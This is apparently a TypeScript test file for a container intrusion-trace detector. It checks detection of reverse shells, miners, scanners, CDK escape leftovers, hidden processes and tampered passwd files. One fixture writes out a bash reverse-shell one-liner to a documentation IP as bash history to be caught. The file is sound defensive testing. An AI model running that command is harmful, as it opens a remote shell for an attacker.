import { scanWith } from '@veinmind/plugin-testing'
import type { Finding } from '@veinmind/report'
import { expect, test } from 'vitest'
import { sampleContainer } from '../test/sample-container.ts'
import plugin from './index.ts'
import type { Sample } from './rules/index.ts'

// Faults of the original, by their numbers: that each is absent here.

async function found(sample: Sample): Promise<readonly Finding[]> {
  const report = await scanWith(plugin, sampleContainer(sample), { workers: 0 })
  expect(report.errors).toEqual([])
  return report.findings
}

const ids = (findings: readonly Finding[]): readonly string[] => findings.map(({ rule }) => rule.id)
const socket = (fd: number): object => ({
  fd,
  target: 'socket:[9]',
  connection: { protocol: 'tcp', local: '10.0.0.2:5000', remote: '203.0.113.9:4444', state: 'ESTABLISHED' },
})

test('T0: the type is Trace, and its detail is kept', async () => {
  const [finding] = await found({ processes: [{ pid: 7, name: 'x', exe: '/memfd:x (deleted)', args: ['x', '-a'] }] })
  expect(finding).toMatchObject({
    type: 'Trace',
    class: 'invasion',
    detail: { from: 'Process', path: '/proc/7', level: 'Critical', detail: 'x -a' },
  })
})

test('T1: a process whose descriptors may not be read costs nothing; all of the three are looked at', async () => {
  const findings = await found({
    processes: [
      { pid: 6, name: 'gone', args: [] },
      { pid: 7, name: 'sh', exe: '/bin/sh', args: ['sh'], descriptors: [{ fd: 0, target: '/dev/null' }, socket(2)] },
    ],
  })
  expect(ids(findings)).toEqual(['TRACE-026'])
})

test('T2: permissions are an upper bound: what distributions have, and what is stricter, is no fault', async () => {
  const modes = {
    'etc/shadow': '0000',
    'etc/gshadow': '0640',
    'etc/sudoers': '0440',
    'etc/crontab': '0644',
    'etc/ld.so.preload': '0644',
    'usr/lib/x86_64-linux-gnu/security/pam_unix.so': '0644',
    'var/spool/cron/crontabs/root': '0600',
  }
  const image = Object.fromEntries(Object.entries(modes).map(([path, mode]) => [path, { mode, content: '' }]))
  expect(await found({ image })).toEqual([])
})

test('T3: an owner is shown in digits, and not judged where a user namespace moves owners', async () => {
  const image = { 'etc/passwd': { uid: 1000, content: 'root:x:0:0::/:/bin/sh\n' } }
  expect((await found({ image }))[0]?.evidence).toContain('the owner is 1000')
  const moved = { ...sampleContainer({ image }), security: { namespaces: { user: 'private' } } }
  expect((await scanWith(plugin, moved, { workers: 0 })).findings).toEqual([])
})

test('T4: what CDK leaves in the root folder is seen, and each path once', async () => {
  const findings = await found({ changes: { 'cdk_cgexp_x.sh': '#!/bin/sh\n', 'tmp/cdk_dcgroup1': 'x' } })
  expect(findings.map(({ rule, locations }) => [rule.id, locations[0]?.path])).toEqual([
    ['TRACE-060', '/cdk_cgexp_x.sh'],
    ['TRACE-060', '/tmp/cdk_dcgroup1'],
  ])
})

test('T5: shells without -i, interpreters; ssh is no shell', async () => {
  const of = (exe: string, args: readonly string[]): Sample => ({
    processes: [{ pid: 7, name: 'x', exe, args, descriptors: [socket(0), socket(1)] }],
  })
  expect(ids(await found(of('/bin/dash', ['sh'])))).toEqual(['TRACE-026'])
  for (const program of ['python3', 'perl', 'php8.2', 'ruby', 'socat', 'nc.openbsd'])
    expect(ids(await found(of(`/usr/bin/${program}`, [program])))).toEqual(['TRACE-027'])
  expect(await found(of('/usr/bin/ssh', ['ssh', '-i', 'key', 'host']))).toEqual([])
})

test('T6: tools by their program, whole paths too; not by what stands in arguments', async () => {
  const of = (exe: string, ...args: readonly string[]): Sample => ({ processes: [{ pid: 7, name: 'x', exe, args }] })
  expect(ids(await found(of('/opt/fscan', '/opt/fscan')))).toEqual(['TRACE-024'])
  expect(ids(await found(of('/opt/xmrig', 'xmrig')))).toEqual(['TRACE-025'])
  expect(await found(of('/usr/bin/node', 'node', 'cdk', 'deploy'))).toEqual([])
  expect(await found(of('/usr/bin/vim', 'vim', 'nmap.conf'))).toEqual([])
})

test('T7: a debugger that traces is not accused, another is named', async () => {
  const of = (exe: string): Sample => ({
    processes: [{ pid: 7, name: 'x', exe: '/opt/x', args: ['x'], tracer: { hostPid: 90, pid: 9, name: 'y', exe } }],
  })
  expect(await found(of('/usr/bin/strace'))).toEqual([])
  expect((await found(of('/opt/inject')))[0]?.evidence).toContain('/opt/inject (9)')
})

test('T8: every hidden process is told, as the container has it', async () => {
  const processes = [7, 8].map((pid) => ({ pid, name: 'x', exe: '/opt/x', args: [`x${pid}`], hiddenFrom: ['mount'] }))
  expect((await found({ processes })).map(({ locations }) => locations[0]?.path)).toEqual(['/proc/7', '/proc/8'])
})

test('T9: a line of passwd that is wrong costs itself alone', async () => {
  const image = { 'etc/passwd': 'root:x:0:0\nnonsense\n::::\ntoor:x:0:0::/:/bin/sh\n' }
  expect(ids(await found({ image }))).toEqual(['TRACE-042'])
})

test('T10: deleted programs, memory, shared memory, false threads, jobs, histories, and changes since the start', async () => {
  const of = (pid: number, exe: string, first: string): object => ({ pid, name: 'x', exe, args: [first] })
  const findings = await found({
    image: { 'etc/motd': 'x' },
    changes: {
      'etc/cron.d/a': '* * * * * root /a\n',
      'root/.bash_history': 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1\n',
      'opt/new': { mode: '0755', content: '\u007fELF' },
    },
    processes: [
      of(5, '/opt/a (deleted)', 'a'),
      of(6, '/memfd:b (deleted)', 'b'),
      of(7, '/dev/shm/c', 'c'),
      of(8, '/opt/d', '[kworker/0:0]'),
    ] as Sample['processes'] & {},
  })
  expect([...new Set(ids(findings))].toSorted()).toEqual([
    'TRACE-001',
    'TRACE-004',
    'TRACE-020',
    'TRACE-021',
    'TRACE-022',
    'TRACE-023',
    'TRACE-050',
  ])
})
